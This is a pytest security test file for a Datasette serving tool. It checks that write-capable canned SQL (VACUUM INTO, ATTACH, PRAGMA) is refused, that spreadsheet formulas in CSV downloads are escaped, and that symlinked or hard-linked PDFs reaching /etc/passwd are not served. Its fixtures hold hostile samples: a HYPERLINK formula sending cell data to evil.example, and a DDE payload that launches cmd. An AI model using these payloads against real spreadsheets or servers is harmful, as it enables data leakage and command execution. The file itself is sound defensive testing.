"""Issue 22 on the serving side: a layout's canned query that writes files or shadows a
built-in one, formulas in Excel downloads, and a PDF replaced by a symlink leading out."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import ROOT, SAMPLE_PDF, free_port, run_hyoka

from extract.site.metadata import QUERIES
from extract.site.serve import make_datasette


def get(ds, path: str, **params):
    return asyncio.run(ds.client.get(quote(path, safe="/.%?=&"), params=params or None))


DENIED = re.compile("not authorized|authorization denied")  # what SQLite says when refused


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- 1. a layout's canned query that writes, or shadows ----------------------------------
def hostile_statements(folder: Path) -> dict[str, str]:
    """Statements a layout file (or an older, hostile JSON) could bring as canned queries."""
    return {
        "vacuum_copy": f"VACUUM INTO '{folder / 'elsewhere' / 'copy.db'}'",
        "attach_file": f"ATTACH DATABASE '{folder / 'pwn.db'}' AS pwn",
        "temp_table": "CREATE TEMP TABLE t AS SELECT * FROM evaluations",
        "set_pragma": "PRAGMA query_only = 0",
        "schema_version": "PRAGMA schema_version = 1",
        "vacuum": "VACUUM",
    }


@pytest.fixture(scope="module")
def hostile(built_db, tmp_path_factory) -> tuple[Path, Path]:
    """A copy of the built database whose layout_queries holds hostile rows and shadows."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "elsewhere").mkdir()
    db = folder / "hyoka.db"
    shutil.copy(built_db, db)
    rows = [(f"evil:{n}", "evil", n, n, "", sql) for n, sql in hostile_statements(folder).items()]
    rows += [
        ("evil:downgrades", "evil", "downgrades", "shadow", "", "select 'pwned' as x"),
        ("evil:evaluations", "evil", "evaluations", "shadow", "", "select 'pwned' as x"),
        ("evil:fine", "evil", "fine_query", "fine", "", "select count(*) as n from evaluations"),
    ]
    with sqlite3.connect(db) as conn:
        conn.executemany(
            "insert into layout_queries (id, layout, name, title, description, sql) values (?, ?, ?, ?, ?, ?)",
            rows,
        )
    conn.close()
    return folder, db


@pytest.fixture(scope="module")
def hostile_ds(hostile):
    return make_datasette(hostile[1], None)


@pytest.mark.parametrize("name", list(hostile_statements(Path("."))))
def test_a_layout_query_that_writes_is_refused_and_creates_no_file(hostile, hostile_ds, name) -> None:
    folder, db = hostile
    before, was = files_under(folder), digest(db)
    resp = get(hostile_ds, f"/hyoka/{name}.json")
    assert resp.status_code == 400 and DENIED.search(resp.json()["error"]), (name, resp.text[:300])
    assert get(hostile_ds, f"/hyoka/{name}").status_code == 400
    assert files_under(folder) == before
    assert digest(db) == was


@pytest.mark.parametrize("name", list(hostile_statements(Path("."))))
def test_the_same_sql_is_refused_through_sql_and_through_datasettes_own_execute(
    hostile, hostile_ds, name
) -> None:
    folder, db = hostile
    sql = hostile_statements(folder)[name]
    before = files_under(folder)
    assert get(hostile_ds, "/hyoka.json", sql=sql).status_code in (400, 403)
    with pytest.raises(sqlite3.DatabaseError, match=DENIED):  # what a plugin or a canned query runs
        asyncio.run(hostile_ds.get_database("hyoka").execute(sql))
    assert files_under(folder) == before


def test_reading_pragmas_and_plain_layout_queries_still_work(hostile_ds) -> None:
    sql = "select name from pragma_table_info('evaluations')"
    names = [r["name"] for r in get(hostile_ds, "/hyoka.json", sql=sql, _shape="array").json()]
    assert "rating" in names
    assert get(hostile_ds, "/hyoka/fine_query.json", _shape="array").json() == [{"n": 58}]
    assert get(hostile_ds, "/hyoka/evaluations.json", _size=1).json()["rows"]


def test_a_layout_query_does_not_shadow_a_built_in_query_or_a_table(hostile_ds) -> None:
    queries = get(hostile_ds, "/-/metadata.json").json()["databases"]["hyoka"]["queries"]
    assert queries["downgrades"]["sql"] == QUERIES["downgrades"]["sql"]
    assert "evaluations" not in queries
    downs = get(hostile_ds, "/hyoka/downgrades.json", _shape="array").json()
    assert len(downs) == 6 and all(r["rating"] > r["prev_rating"] for r in downs)  # C after A: worse
    rows = get(hostile_ds, "/hyoka/evaluations.json", _shape="array", _size="max").json()
    assert len(rows) == 58 and "pwned" not in str(rows)


def test_serve_names_each_shadowing_layout_query_in_one_line(hostile) -> None:
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "extract", "serve", "--db", str(hostile[1]), "--port", str(port)],
        cwd=hostile[0], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    lines: list[str] = []
    try:
        deadline = time.monotonic() + 30
        while not any(line.startswith("serving") for line in lines) and time.monotonic() < deadline:
            line = proc.stderr.readline()
            if not line:
                break
            lines.append(line.rstrip("\n"))
    finally:
        proc.terminate()
        proc.wait(timeout=10)
    shadows = [line for line in lines if "not served" in line]
    assert shadows == [
        "layout evil: query downgrades not served (a built-in query has that name)",
        "layout evil: query evaluations not served (a table or view has that name)",
    ], lines


def test_another_database_served_beside_stays_writable(built_db, tmp_path) -> None:
    """The authorizer is on hyoka's databases only: another one keeps what Datasette allows."""
    from datasette.app import Datasette

    other = tmp_path / "other.db"
    sqlite3.connect(other).close()
    ds = Datasette([str(other)], immutables=[str(built_db)])
    asyncio.run(ds.get_database("other").execute_write("create table notes (text)"))
    assert asyncio.run(ds.get_database("other").execute("select count(*) from notes")).rows[0][0] == 0
    with pytest.raises(sqlite3.DatabaseError, match=DENIED):
        asyncio.run(ds.get_database("hyoka").execute("pragma query_only = 0"))
    assert get(ds, "/-/databases.json").status_code == 200  # _internal, written by Datasette


# -- 7. formulas in Excel downloads -------------------------------------------------------
CELLS = {  # text as stored -> as the Excel download writes it
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    '＝HYPERLINK("http://evil.example/")': '\'＝HYPERLINK("http://evil.example/")',
    "-3": "-3",  # reads as the number it is, in any column: no formula
    "防災 = 安全": "防災 = 安全",
    "": "",
}


def _changed_copy(built_db: Path, folder: Path, *sql: str, rows: list[tuple] = ()) -> Path:
    """A copy of the built database changed by ``sql`` (the first run once per row of ``rows``)."""
    db = folder / "hyoka.db"
    shutil.copy(built_db, db)
    with sqlite3.connect(db) as conn:
        for n, statement in enumerate(sql):
            if n == 1 and rows:
                conn.executemany(statement, rows)
            else:
                conn.execute(statement)
    conn.close()
    return db


@pytest.fixture(scope="module")
def formulas(built_db, tmp_path_factory) -> Path:
    """A copy of the built database with a table of cells Excel would take for formulas."""
    return _changed_copy(
        built_db, tmp_path_factory.mktemp("formulas"),
        "create table cells (id integer primary key, text text, number integer)",
        "insert into cells (text, number) values (?, -3)",
        "update evaluations set department = '=1+1' where id = 1",
        rows=[(t,) for t in CELLS],
    )  # fmt: skip


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_excel_download_escapes_formulas(formulas) -> None:
    ds = make_datasette(formulas, None)
    rows = _csv(get(ds, "/-/excel/hyoka/cells.csv").text)
    assert [(r[1], r[2]) for r in rows[1:]] == [(v, "-3") for v in CELLS.values()]
    dept = _csv(get(ds, "/-/excel/hyoka/evaluation_rows.csv", id="1").text)
    assert dept[1][dept[0].index("担当課")] == "'=1+1"
    query = _csv(get(ds, "/-/excel/hyoka.csv", sql="select '@x' as \"=h\", -3 as n").text)
    assert query == [["'=h", "n"], ["'@x", "-3"]]


def test_the_json_keeps_every_value_exact(formulas) -> None:
    ds = make_datasette(formulas, None)
    rows = get(ds, "/hyoka/cells.json", _shape="array", _size="max").json()
    assert [r["text"] for r in rows] == list(CELLS) and {r["number"] for r in rows} == {-3}


def test_export_labels_escapes_formulas_and_plain_export_keeps_them(formulas, tmp_path) -> None:
    for name, flags in (("labelled", ["--labels"]), ("plain", [])):
        done = run_hyoka(
            "export", "--db", str(formulas), "--table", "cells", "-o", str(tmp_path / name), *flags
        )
        assert done.returncode == 0, done.stderr
    labelled, plain = (_csv((tmp_path / n).read_bytes().decode()) for n in ("labelled", "plain"))
    assert [(r[1], r[2]) for r in labelled[1:]] == [(v, "-3") for v in CELLS.values()]
    assert [r[1] for r in plain[1:]] == list(CELLS)


# -- 8. /pdfs/ and symlinks -------------------------------------------------------------------
PDF = SAMPLE_PDF.name


@pytest.fixture(scope="module")
def unplaced(built_db, tmp_path_factory) -> Path:
    """A copy of the built database that does not know where its PDF was read from."""
    return _changed_copy(built_db, tmp_path_factory.mktemp("unplaced"), "update reports set folder = null")


def _pdf(db: Path, folder: Path | None) -> tuple[int, bytes]:
    resp = get(make_datasette(db, folder), f"/pdfs/{PDF}")
    return resp.status_code, resp.content


def test_a_pdf_replaced_by_a_symlink_to_a_file_outside_is_not_served(unplaced, tmp_path) -> None:
    served = tmp_path / "served"
    served.mkdir()
    (served / PDF).symlink_to("/etc/passwd")
    assert _pdf(unplaced, served)[0] == 404
    outside = tmp_path / "outside.pdf"  # another PDF than the report the build read
    outside.write_bytes(SAMPLE_PDF.read_bytes() + b"\n%changed\n")
    (served / PDF).unlink()
    (served / PDF).symlink_to(outside)
    assert _pdf(unplaced, served)[0] == 404


def test_a_symlinked_report_outside_the_folder_is_served_when_it_is_the_report(unplaced, tmp_path) -> None:
    """A user's raw/report.pdf -> ../elsewhere/report.pdf (issue 22, item 12): the file the link
    reaches has the SHA-256 the build read, so it is the report, and its page links open."""
    served = tmp_path / "served"
    served.mkdir()
    outside = tmp_path / "elsewhere" / "report.pdf"
    outside.parent.mkdir()
    shutil.copy(SAMPLE_PDF, outside)
    (served / PDF).symlink_to(outside)
    status, content = _pdf(unplaced, served)
    assert status == 200 and content == SAMPLE_PDF.read_bytes()
    outside.write_bytes(b"%PDF-1.4 replaced\n")  # the target replaced: no longer the report
    assert _pdf(unplaced, served)[0] == 404


def test_the_same_in_the_folder_the_build_read(unplaced, tmp_path) -> None:
    """No --pdfs: the report's own folder (reports.folder) is held to the same rule."""
    (tmp_path / PDF).symlink_to("/etc/passwd")
    with sqlite3.connect(unplaced) as conn:
        conn.execute("update reports set folder = ?", [str(tmp_path)])
    conn.close()
    try:
        assert _pdf(unplaced, None)[0] == 404
    finally:
        with sqlite3.connect(unplaced) as conn:
            conn.execute("update reports set folder = null")
        conn.close()


def test_a_symlink_inside_the_folder_to_a_file_inside_it_is_served(unplaced, tmp_path) -> None:
    served = tmp_path / "served"
    (served / "kept").mkdir(parents=True)
    shutil.copy(SAMPLE_PDF, served / "kept" / "original.pdf")
    (served / PDF).symlink_to(Path("kept") / "original.pdf")
    status, content = _pdf(unplaced, served)
    assert status == 200 and content == SAMPLE_PDF.read_bytes()
    link = tmp_path / "link-to-served"  # the folder given through a symlink of its own
    link.symlink_to(served)
    assert _pdf(unplaced, link)[0] == 200


def test_a_pdf_that_is_not_a_regular_file_is_not_served(unplaced, tmp_path) -> None:
    os.mkfifo(tmp_path / PDF)
    assert _pdf(unplaced, tmp_path)[0] == 404
    assert _pdf(unplaced, ROOT / "raw")[0] == 200


def test_a_hard_link_in_the_folder_is_served_only_when_it_is_the_report(unplaced, tmp_path) -> None:
    """A hard link has no real path of its own to check: `ln /etc/passwd raw/report.pdf` was
    served; now a file with other links must have the report's SHA-256."""
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0\n")
    served = tmp_path / "served"
    served.mkdir()
    os.link(secret, served / PDF)
    assert _pdf(unplaced, served)[0] == 404
    (served / PDF).unlink()
    copy = tmp_path / "copy.pdf"
    shutil.copy(SAMPLE_PDF, copy)
    os.link(copy, served / PDF)
    assert _pdf(unplaced, served) == (200, SAMPLE_PDF.read_bytes())
